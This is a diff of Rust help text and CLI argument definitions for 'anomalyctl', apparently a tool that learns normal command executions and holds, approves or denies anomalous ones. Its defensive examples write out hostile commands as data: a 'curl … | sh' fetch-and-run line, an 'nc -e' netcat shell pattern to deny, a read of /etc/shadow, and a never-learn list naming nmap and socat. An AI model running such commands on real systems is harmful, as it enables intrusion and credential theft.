@@ -21,9 +21,8 @@ Examples:
   anomalyctl held --history
       who decided what, when and why, and what came of it
 
-An id that starts with g stands for all executions of a group, one that starts with r for one
-execution; their first few letters will do. It works beside `anomalyctl watch` and the plugin, and
-without them.
+An id that starts with g stands for all executions of a group, one that starts with r for one execution; \
+their first few letters will do. It works beside `anomalyctl watch` and the plugin, and without them.
 Exit codes: 0 when it did, 2 when it could not.";
 
 pub(crate) const APPROVE_EXAMPLES: &str = "\
@@ -33,10 +32,9 @@ Examples:
   anomalyctl approve 'restic *' --workload web --dry-run
       what a pattern would touch: * stands for anything, ? for one character
 
-A pattern is compared with the whole command line, with the program's name and with the
-workload's, and approves what is held; an id approves what was denied, too. Whoever writes the
-database takes it up within seconds and without a restart; where nobody does, it is applied at
-once.
+A pattern is compared with the whole command line, with the program's name and with the workload's, and \
+approves what is held; an id approves what was denied, too. Whoever writes the database takes it up within \
+seconds and without a restart; where nobody does, it is applied at once.
 Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";
 
 pub(crate) const DENY_EXAMPLES: &str = "\
@@ -46,8 +44,8 @@ Examples:
   anomalyctl deny 'nc -e *' --dry-run
       what a pattern would touch, what was learned included
 
-What is denied never becomes normal and scores as if nothing were like it. `anomalyctl approve ID`
-takes that back.
+What is denied never becomes normal and scores as if nothing were like it. `anomalyctl approve ID` takes \
+that back.
 Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";
 
 pub(crate) const FORGET_EXAMPLES: &str = "\
@@ -57,8 +55,7 @@ Examples:
   anomalyctl forget '*--token*' --workload ci --dry-run
       what a pattern would touch
 
-Rows leave the disk with the next compaction, some minutes later. What was typed here stays in the
-history.
+Rows leave the disk with the next compaction, some minutes later. What was typed here stays in the history.
 Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";
 
 pub(crate) const LEARN_EXAMPLES: &str = "\
@@ -70,14 +67,16 @@ Examples:
   anomalyctl learn web --for 0s
       closes the window
 
-Scores and alerts go on meanwhile. Programs of the never-learn list (nmap, socat, ...) and what is
-denied are not learned. The window shows in `anomalyctl status` and ends by itself.
+Scores and alerts go on meanwhile. Programs of the never-learn list (nmap, socat, ...) and what is denied \
+are not learned. The window shows in `anomalyctl status` and ends by itself.
 Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";
 
 pub(crate) const EXPLAIN_EXAMPLES: &str = "\
 Examples:
   anomalyctl explain r1f4c22aa
       a held execution: its features beside those of the nearest learned ones, and how its score comes about
+  anomalyctl explain 754d8530-67d6-41f9-a3a5-d1f00c0ffee1
+      the execution of an alert, by its uuid, or by the id in a finding: the daemon is asked which row that is
   anomalyctl explain --workload web --parent nginx --uid 33 'sh -c \"curl http://203.0.113.9/x | sh\"'
       one that nobody ran
   anomalyctl explain --workload web -- curl -s http://127.0.0.1/healthz
@@ -85,8 +84,7 @@ Examples:
   anomalyctl explain --kind open --name nginx --exe /usr/sbin/nginx --uid 33 /etc/shadow read
       another act than an execution: its object, then how it is done
 
-A command line that was seen stands for what was seen, parent and user included, unless flags say
-otherwise.
+A command line that was seen stands for what was seen, parent and user included, unless flags say otherwise.
 Exit codes: 0 when it did, 2 when it could not.";
 
 pub(crate) const STATUS_EXAMPLES: &str = "\
@@ -127,7 +125,7 @@ pub(crate) struct Held {
 /// `anomalyctl approve`, `deny` and `forget`
 #[derive(Debug, Args)]
 pub(crate) struct Decide {
-    /// Ids as `anomalyctl held` shows them, or patterns such as 'curl *'
+    /// Ids as `anomalyctl held` shows them, of findings and alerts, or patterns such as 'curl *'
     #[arg(value_name = "ID|PATTERN", required = true)]
     pub(crate) wanted: Vec<String>,
 
@@ -183,7 +181,7 @@ pub(crate) struct Learn {
 /// `anomalyctl explain`
 #[derive(Debug, Args)]
 pub(crate) struct Explain {
-    /// An id as `anomalyctl held` shows it, or a command line; with --kind an object and flags
+    /// An id as `anomalyctl held` shows it, of a finding or an alert, or a command line; with --kind an object and flags
     #[arg(value_name = "ID|COMMAND", required = true)]
     pub(crate) what: Vec<String>,
 
